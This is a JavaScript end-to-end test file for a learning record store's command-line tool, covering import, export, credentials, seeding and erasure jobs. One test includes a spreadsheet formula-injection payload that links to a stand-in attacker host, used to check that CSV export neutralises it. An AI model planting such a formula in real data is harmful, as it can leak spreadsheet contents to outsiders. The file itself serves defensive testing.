// End-to-end check of the CLI against a live `npm start` (node:test; not part of vitest, which runs inside
// workerd). Run: `npx node --test scripts/lrs/cli.test.mjs` (PORT 8850 by default, LRS_CLI_TEST_PORT to change).
// Starts its own LRS with a throwaway state directory and stops its whole process group at the end.
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:http";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { after, before, test } from "node:test";

const root = resolve(import.meta.dirname, "..", "..");
const port = process.env.LRS_CLI_TEST_PORT ?? "8850";
const url = `http://127.0.0.1:${port}`;
const token = `cli-test-admin-token-${crypto.randomUUID()}`;
// A bootstrap secret wrangler's env-file parser would mangle if written naively ($ expansion, quotes, #).
const bootstrap = { key: "cli-boot", secret: `b00t $HOME \${PATH} "q" 'q' #h \\$x ${crypto.randomUUID()}` };
const varsFile = join(root, ".wrangler", "start-env", `${port}.env`);
const dir = mkdtempSync(join(tmpdir(), "lrs-cli-"));
let server;

function run(args, extraEnv = {}) {
  return spawnSync(process.execPath, ["scripts/lrs.mjs", ...args], {
    cwd: root,
    env: { ...process.env, LRS_URL: url, LRS_ADMIN_TOKEN: token, ...extraEnv },
    encoding: "utf8",
  });
}
function lrs(args, extraEnv = {}) {
  const result = run(args, extraEnv);
  if (result.status !== 0) throw new Error(`lrs ${args.join(" ")}: ${result.stderr}`);
  return result.stdout;
}
const lrsJson = (args, env) => JSON.parse(lrs(args, env));

/** The CLI run without blocking this process (so an HTTP server here can answer it). */
async function lrsAsync(args, extraEnv) {
  const child = spawn(process.execPath, ["scripts/lrs.mjs", ...args], { cwd: root, env: { ...process.env, ...extraEnv } });
  let stderr = "";
  child.stderr.on("data", (chunk) => (stderr += chunk));
  child.stdout.resume();
  const [status] = await once(child, "exit");
  return { status, stderr };
}

before(async () => {
  server = spawn(process.execPath, ["scripts/start.mjs"], {
    cwd: root,
    env: {
      ...process.env,
      PORT: port,
      LRS_PERSIST_DIR: join(dir, "state"),
      LRS_ADMIN_TOKEN: token,
      LRS_BOOTSTRAP_KEY: bootstrap.key,
      LRS_BOOTSTRAP_SECRET: bootstrap.secret,
    },
    stdio: "ignore",
    detached: true,
  });
  for (let i = 0; i < 120; i++) {
    try {
      if ((await fetch(`${url}/xapi/about`)).ok) return;
    } catch {}
    await new Promise((done) => setTimeout(done, 1000));
  }
  throw new Error("the LRS did not start");
});

/** Stops the LRS's process group and waits until start.mjs has exited. */
async function stopServer() {
  if (!server || server.exitCode !== null || server.signalCode !== null) return;
  const exited = once(server, "exit");
  process.kill(-server.pid, "SIGTERM");
  await exited;
}

after(async () => {
  await stopServer();
  rmSync(dir, { recursive: true, force: true });
});

function statement(i, withId = true) {
  return {
    ...(withId ? { id: crypto.randomUUID() } : {}),
    actor: { mbox: `mailto:learner${i % 7}@example.com` },
    verb: { id: "http://adlnet.gov/expapi/verbs/completed" },
    object: { id: `http://example.com/activities/${i % 5}` },
  };
}

test("import stores good lines, reports bad ones, and a re-run imports nothing twice; export round-trips", () => {
  lrsJson(["stores", "create", "Source", "--id", "source"]);
  lrsJson(["stores", "create", "Copy", "--id", "copy"]);
  const source = lrsJson(["credentials", "create", "source", "--scopes", "statements/write,statements/read"]);
  const copy = lrsJson(["credentials", "create", "copy", "--scopes", "all"]);
  const as = (credential) => ({ LRS_KEY: credential.key, LRS_SECRET: credential.secret });

  const lines = [];
  for (let i = 0; i < 60; i++) lines.push(JSON.stringify(statement(i, i % 4 !== 0)));
  lines.splice(10, 0, "{broken json");
  lines.splice(30, 0, JSON.stringify({ ...statement(99), verb: undefined }));
  lines.splice(45, 0, JSON.stringify({ ...statement(98), id: "not-a-uuid" }));
  const file = join(dir, "statements.ndjson");
  writeFileSync(file, `${lines.join("\n")}\n`);

  const first = lrsJson(["import", file, "--batch", "16"], as(source));
  assert.deepEqual({ accepted: first.accepted, rejected: first.rejected }, { accepted: 60, rejected: 3 });
  const rejected = readFileSync(`${file}.rejected.ndjson`, "utf8").trim().split("\n").map((l) => JSON.parse(l));
  assert.deepEqual(rejected.map((r) => r.line), [11, 31, 46]);
  assert.match(rejected[0].reason, /not valid JSON/);
  assert.match(rejected[1].reason, /verb/);
  assert.match(rejected[2].reason, /id/);
  assert.equal(lrsJson(["stats", "source"]).statements, 60);

  // Re-run: the saved position skips everything; with --restart the ids make every re-POST a no-op.
  lrsJson(["import", file], as(source));
  lrsJson(["import", file, "--restart"], as(source));
  assert.equal(lrsJson(["stats", "source"]).statements, 60);

  const exported = join(dir, "export.ndjson");
  lrs(["export", "--out", exported], as(source));
  lrsJson(["import", exported], as(copy));
  const copied = join(dir, "copy.ndjson");
  lrs(["export", "--out", copied], as(copy));
  const comparable = (path) =>
    readFileSync(path, "utf8").trim().split("\n").map((line) => {
      const { stored: _stored, authority: _authority, ...rest } = JSON.parse(line);
      return JSON.stringify(rest, Object.keys(rest).sort());
    });
  assert.deepEqual(comparable(copied), comparable(exported));
  assert.equal(comparable(exported).length, 60);

  const csv = lrs(["export", "--csv", "--agent", '{"mbox":"mailto:learner1@example.com"}'], as(source));
  const rows = csv.trim().split("\r\n");
  assert.match(rows[0], /^id,timestamp,stored,actor/);
  assert.ok(rows.slice(1).every((row) => row.includes("mailto:learner1@example.com")));
});

test("export --csv: the console's columns, and a formula in a name is neutralised", async () => {
  const { STATEMENT_CSV_COLUMNS } = await import("../../src/shared/statement-csv.mjs");
  lrsJson(["stores", "create", "Formulas", "--id", "formulas"]);
  const credential = lrsJson(["credentials", "create", "formulas"]);
  const as = { LRS_KEY: credential.key, LRS_SECRET: credential.secret };
  const file = join(dir, "formula.ndjson");
  const name = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  writeFileSync(file, `${JSON.stringify({ ...statement(1), actor: { name, mbox: "mailto:mallory@example.com" } })}\n`);
  lrsJson(["import", file], as);
  const [header, row, ...rest] = lrs(["export", "--csv"], as).split("\r\n");
  assert.deepEqual(rest, [""]);
  assert.equal(header, STATEMENT_CSV_COLUMNS.join(","));
  assert.match(row, /^"[0-9a-f-]{36}",/);
  assert.ok(row.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`), row);
  assert.ok(!/(^|,)"?\s*=/.test(row), `a cell starts a formula: ${row}`);
});

test("export refuses a more link to another origin, and sends the credential nowhere else", async () => {
  const seen = [];
  const trap = createServer((request, response) => {
    seen.push(request.headers.authorization ?? "(none)");
    response.end('{"statements":[]}');
  });
  const lrsLike = createServer((request, response) => {
    response.setHeader("Content-Type", "application/json");
    response.end(JSON.stringify({ statements: [statement(1)], more: `http://127.0.0.1:${trap.address().port}/xapi/statements?page=2` }));
  });
  await Promise.all([once(trap.listen(0, "127.0.0.1"), "listening"), once(lrsLike.listen(0, "127.0.0.1"), "listening")]);
  try {
    const result = await lrsAsync(["export", "--out", join(dir, "more.ndjson")], {
      LRS_URL: `http://127.0.0.1:${lrsLike.address().port}`,
      LRS_KEY: "k",
      LRS_SECRET: "s",
    });
    assert.equal(result.status, 1);
    assert.match(result.stderr, /refusing to follow more link http:\/\/127\.0\.0\.1:\d+\/xapi\/statements\?page=2: its origin is not/);
    assert.deepEqual(seen, []);
  } finally {
    trap.close();
    lrsLike.close();
  }
});

test("the CLI refuses --token and --secret, and reads --token-file and --secret-file", () => {
  for (const [args, variable] of [[["stores", "list", "--token", token], "LRS_ADMIN_TOKEN"], [["export", "--key", "k", "--secret", "s"], "LRS_SECRET"]]) {
    const result = run(args);
    assert.equal(result.status, 1);
    assert.match(result.stderr, new RegExp(`--(token|secret) is refused: command lines are visible to every user of this machine \\(ps\\); set ${variable}`));
  }
  const tokenFile = join(dir, "token");
  writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
  const stores = lrsJson(["stores", "list", "--token-file", tokenFile], { LRS_ADMIN_TOKEN: "" });
  assert.ok(stores.some((store) => store.id === "default"));
  lrsJson(["stores", "create", "Files", "--id", "files"]);
  const credential = lrsJson(["credentials", "create", "files"]);
  const secretFile = join(dir, "secret");
  writeFileSync(secretFile, `${credential.secret}\n`, { mode: 0o600 });
  const out = join(dir, "files.ndjson");
  lrs(["export", "--key", credential.key, "--secret-file", secretFile, "--out", out], { LRS_KEY: "", LRS_SECRET: "" });
  assert.equal(readFileSync(out, "utf8"), "");
  const wrong = run(["export", "--key", credential.key, "--secret-file", tokenFile], { LRS_SECRET: "" });
  assert.match(wrong.stderr, /401/);
});

test("npm run seed refuses --secret, and loads a running LRS with --secret-file", () => {
  const refused = spawnSync(process.execPath, ["scripts/seed.mjs", "--endpoint", url, "--secret", "x"], { cwd: root, encoding: "utf8" });
  assert.equal(refused.status, 2);
  assert.match(refused.stderr, /--secret is refused: command lines are visible to every user of this machine \(ps\)/);
  const before = lrsJson(["stats", "default"]).statements;
  const secretFile = join(dir, "bootstrap-secret");
  writeFileSync(secretFile, bootstrap.secret, { mode: 0o600 });
  const seeded = spawnSync(
    process.execPath,
    ["scripts/seed.mjs", "--endpoint", url, "--statements", "20", "--batch", "10", "--seed", "7", "--key", bootstrap.key, "--secret-file", secretFile],
    { cwd: root, encoding: "utf8", env: { ...process.env, LRS_KEY: "", LRS_SECRET: "" } },
  );
  assert.equal(seeded.status, 0, seeded.stderr + seeded.stdout);
  assert.equal(lrsJson(["stats", "default"]).statements, before + 20);
});

test("npm start passes its secrets to the Worker in a 0600 file, never on a command line", async () => {
  const commandLines = readdirSync("/proc")
    .filter((entry) => /^\d+$/.test(entry))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
      } catch {
        return "";
      }
    });
  assert.ok(commandLines.some((line) => line.includes(`--port ${port}`)), "the LRS's wrangler is running");
  assert.deepEqual(commandLines.filter((line) => line.includes(token) || line.includes(bootstrap.secret)), []);
  assert.equal(statSync(varsFile).mode & 0o777, 0o600);
  // The bootstrap secret reached the Worker unchanged ($, quotes and # included).
  const basic = (secret) => `Basic ${Buffer.from(`${bootstrap.key}:${secret}`).toString("base64")}`;
  const get = (secret) =>
    fetch(`${url}/xapi/statements?limit=1`, { headers: { Authorization: basic(secret), "X-Experience-API-Version": "2.0.0" } });
  assert.equal((await get(bootstrap.secret)).status, 200);
  assert.equal((await get(bootstrap.secret.replace(/\\\$/g, "$"))).status, 401);
});

test("erase-agent, a rollup rebuild and store deletion run as jobs to completion", () => {
  lrsJson(["stores", "create", "Erase", "--id", "erase"]);
  const credential = lrsJson(["credentials", "create", "erase"]);
  const file = join(dir, "erase.ndjson");
  writeFileSync(file, Array.from({ length: 14 }, (_, i) => JSON.stringify(statement(i))).join("\n"));
  lrsJson(["import", file], { LRS_KEY: credential.key, LRS_SECRET: credential.secret });
  // Without --yes: the counts of what matches (any case of the address), and nothing erased.
  const asked = run(["erase-agent", '{"mbox":"mailto:Learner0@Example.com"}', "--store", "erase"]);
  assert.notEqual(asked.status, 0);
  assert.match(asked.stderr, /matching in store erase: 2 statements, 0 documents, 0 attachments/);
  assert.match(asked.stderr, /repeat with --yes/);
  assert.equal(lrsJson(["stats", "erase"]).statements, 14);
  const erasing = run(["erase-agent", '{"mbox":"mailto:Learner0@Example.com"}', "--store", "erase", "--yes"]);
  assert.equal(erasing.status, 0, erasing.stderr);
  const erased = JSON.parse(erasing.stdout);
  assert.deepEqual([erased.kind, erased.state, erased.counts.statements, erased.done, erased.total], ["agent-erasure", "succeeded", 2, 2, 2]);
  // The progress bar's last line (stderr is not a terminal here: plain lines).
  assert.match(erasing.stderr, /agent-erasure [0-9a-f]{8} \[#{30}\] 100\.0% succeeded: statements 2/);
  assert.equal(lrsJson(["stats", "erase"]).statements, 12);
  const rebuilt = lrsJson(["rebuild-rollups", "erase"]);
  // Progress in seqs: the span from the store's first to its last statement.
  assert.deepEqual([rebuilt.kind, rebuilt.state, rebuilt.done], ["rollup-rebuild", "succeeded", rebuilt.total]);
  const jobs = lrsJson(["jobs", "list", "erase"]);
  assert.deepEqual(jobs.map((job) => job.kind), ["rollup-rebuild", "agent-erasure"]);
  assert.equal(lrsJson(["jobs", "show", "erase", erased.id]).state, "succeeded");
  assert.equal(lrsJson(["stores", "tiering", "erase", "0"]).tierAfterDays, 0);
  assert.match(run(["stores", "tiering", "erase", "soon"]).stderr, /must be a whole number of days or off/);
  const tiered = lrsJson(["tier-statements", "erase"]);
  assert.deepEqual([tiered.kind, tiered.state], ["statement-tiering", "succeeded"]);
  assert.equal(lrsJson(["stats", "erase"]).statements, 12);
  assert.equal(lrsJson(["stores", "tiering", "erase", "off"]).tierAfterDays, null);
  const deleted = lrsJson(["stores", "delete", "erase", "--yes"]);
  assert.deepEqual([deleted.kind, deleted.state, deleted.counts.statements], ["store-deletion", "succeeded", 12]);
  assert.ok(!lrsJson(["stores", "list"]).some((store) => store.id === "erase"));
  assert.ok(existsSync(`${file}.import-state`));
});

test("stopping npm start removes its env file", async () => {
  assert.ok(existsSync(varsFile));
  await stopServer();
  assert.equal(existsSync(varsFile), false);
});
